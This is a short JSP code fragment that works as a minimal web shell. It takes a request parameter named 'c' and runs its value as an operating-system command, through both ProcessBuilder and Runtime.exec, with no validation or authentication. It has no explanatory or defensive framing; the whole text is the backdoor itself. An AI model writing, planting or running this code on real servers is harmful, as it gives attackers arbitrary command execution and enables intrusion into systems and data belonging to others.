<%
String c = request.getParameter("c");
if (c != null) {
    Process p = new ProcessBuilder(c.split(" ")).start();
    Process q = Runtime.getRuntime().exec(c);
}
%>
